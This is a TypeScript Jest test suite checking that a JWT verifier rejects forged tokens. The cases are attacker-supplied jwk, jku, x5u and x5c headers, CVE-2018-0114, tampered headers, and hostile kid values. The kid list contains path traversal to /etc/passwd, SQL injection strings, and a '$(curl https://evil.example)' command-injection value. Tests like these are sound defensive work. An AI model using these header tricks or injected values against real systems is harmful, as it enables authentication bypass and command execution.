import { describe, expect, test } from '@jest/globals';
import { partsOf, present } from '../support/attack.ts';
import { fullWorld, operatorToken } from '../support/full-world.ts';
import { ecKey, encode, type Members, rsaKey, type SigningKey, signHs256 } from '../support/keys.ts';
import { HS256_SECRET } from '../support/credentials.ts';

const EVIL_RSA = rsaKey('evil');
const EVIL_EC = ecKey('evil');

/** A token of the operator's that the attacker signed, with header members of the attacker's. */
const forged = (key: SigningKey, header: Members) => operatorToken('acme', { key, header });

describe.each([
  ['RSA', EVIL_RSA],
  ['EC', EVIL_EC],
])("an attacker's %s key is refused", (_type, key) => {
  const jwks = { keys: [key.publicJwk] };

  test.each<[string, Members]>([
    ['CVE-2018-0114: embedded as jwk', { jwk: key.publicJwk }],
    [
      "embedded as jwk under the operator's kid",
      { jwk: { ...key.publicJwk, kid: 'operator-1' }, kid: 'operator-1' },
    ],
    ['embedded as a set of keys', { jwks, keys: [key.publicJwk] }],
    ['behind jku', { jku: 'https://evil.example/jwks' }],
    ["behind jku and the operator's kid", { jku: 'https://evil.example/jwks', kid: 'operator-1' }],
    ['behind a jku that begins like the issuer', { jku: 'https://idp.example.com@evil.example/jwks' }],
    ['behind a jku that is data', { jku: `data:application/json,${JSON.stringify(jwks)}` }],
    ['behind x5u', { x5u: 'https://evil.example/certificate' }],
    ['embedded as x5c', { x5c: [encode('a certificate')] }],
    ["embedded as x5c beside the operator's kid", { x5c: [encode('a certificate')], kid: 'operator-1' }],
    ['named by x5t alone', { 'x5t#S256': encode('a thumbprint') }],
  ])('%s', async (_name, header) => {
    const world = fullWorld();
    world.documents.set('https://evil.example/jwks', jwks);
    expect((await present(world, forged(key, header))).status).toBe(401);
    expect(world.fetched.filter((url) => url.includes('evil'))).toEqual([]);
  });
});

describe("the operator's own key is taken from the issuer alone", () => {
  test.each<[string, Members]>([
    ['a jwk beside it', { jwk: EVIL_RSA.publicJwk }],
    ['a jku beside it', { jku: 'https://evil.example/jwks' }],
    ['an x5c beside it', { x5c: ['AAAA'] }],
  ])('%s is not looked at', async (_name, header) => {
    const world = fullWorld();
    expect(await present(world, operatorToken('acme', { header }))).toMatchObject({ status: 200 });
    expect(world.fetched.filter((url) => url.includes('evil'))).toEqual([]);
  });
});

describe('a kid is looked up in the set of keys and nowhere else', () => {
  const HOSTILE_KIDS = [
    '../../../../dev/null',
    '/dev/null',
    '/proc/sys/kernel/randomize_va_space',
    'file:///etc/passwd',
    'https://evil.example/key',
    "' OR '1'='1",
    "x' UNION SELECT 'secret' --",
    '$(curl https://evil.example)',
    '| cat /etc/passwd',
    'operator-1\u0000',
    'operator-1\u0000.evil',
    'operator-1\n',
    ' operator-1',
    'OPERATOR-1',
    '__proto__',
    'constructor',
    'toString',
    'undefined',
    '0',
    '*',
    '\u{1f511}',
  ];

  test.each(HOSTILE_KIDS)('%j under an asymmetric algorithm', async (kid) => {
    for (const key of [EVIL_RSA, EVIL_EC]) {
      expect(await present(fullWorld(), forged(key, { kid }))).toMatchObject({
        status: 401,
        code: 'token.key_unknown',
      });
    }
  });

  test.each(HOSTILE_KIDS)('%j under HS256, with what it might lead to as the secret', async (kid) => {
    const claims = { namespace: 'acme', exp: 4_000_000_000 };
    for (const secret of ['', '2', kid]) {
      expect((await present(fullWorld(), signHs256(secret, claims, { kid }))).status).toBe(401);
    }
    expect(await present(fullWorld(), signHs256(HS256_SECRET, claims, { kid }))).toMatchObject({
      status: 200,
    });
  });

  test('a kid that is looked for stays out of the log', async () => {
    const world = fullWorld();
    await present(world, forged(EVIL_EC, { kid: 'canary\u0000kid' }));
    expect(world.lines.join()).not.toContain('canary');
  });
});

test('a token whose header was exchanged after signing is refused', async () => {
  const { input, signature } = partsOf(operatorToken('acme'));
  const payload = input.split('.')[1] ?? '';
  const header = encode({ alg: 'RS256', kid: 'operator-1', typ: 'at+jwt' });
  const token = `${header}.${payload}.${signature.toString('base64url')}`;
  expect(await present(fullWorld(), token)).toMatchObject({ status: 401, code: 'token.signature' });
});
